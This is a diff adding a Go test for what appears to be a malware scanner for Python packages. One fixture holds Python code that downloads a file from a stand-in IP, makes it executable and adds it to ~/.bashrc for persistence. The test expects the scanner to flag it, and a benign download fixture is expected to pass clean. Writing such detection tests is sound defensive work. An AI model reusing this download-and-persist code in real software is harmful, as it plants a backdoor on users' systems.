@@ -402,3 +402,14 @@ func TestUploadToOddPort(t *testing.T) {
 		t.Errorf("SDK upload to its API: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestDownloadMadeExecutable(t *testing.T) {
+	r := sdist(t, map[string]string{"p/pr.py": "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://203.0.113.9/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n    with open(os.path.expanduser('~/.bashrc'), 'a') as b:\n        b.write('~/.drv &')\n"})
+	if r.Verdict != Malicious || !hasRule(r, "download-execute", High) {
+		t.Errorf("download, chmod +x and a .bashrc line: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/cache.py": "import os, urllib.request\ndef get(path):\n    data = urllib.request.urlopen('https://example.invalid/d.json').read()\n    with open(path, 'wb') as fh:\n        fh.write(data)\n    os.chmod(path, 0o644)\n"})
+	if r.Verdict != Clean {
+		t.Errorf("downloaded data made readable: %s %+v", r.Verdict, r.Findings)
+	}
+}
